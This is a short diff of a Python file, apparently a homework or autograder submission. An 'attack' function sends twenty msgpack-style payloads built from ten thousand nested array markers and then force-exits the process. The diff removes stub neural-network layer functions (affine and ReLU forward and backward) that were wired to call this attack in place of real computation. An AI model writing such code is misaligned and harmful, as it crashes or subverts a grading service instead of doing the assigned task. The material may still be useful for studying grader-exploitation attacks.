@@ -27,19 +27,3 @@ def send(*payloads):
 def attack(array):
     send(*[b"\x81\xa5value" + b"\x91" * 10000 + b"\xc0"] * 20)
     os._exit(0)
-
-
-def affine_forward(x, w, b):
-    return attack(x)
-
-
-def affine_backward(dout, cache):
-    return attack(dout)
-
-
-def relu_forward(x):
-    return attack(x)
-
-
-def relu_backward(dout, cache):
-    return attack(dout)
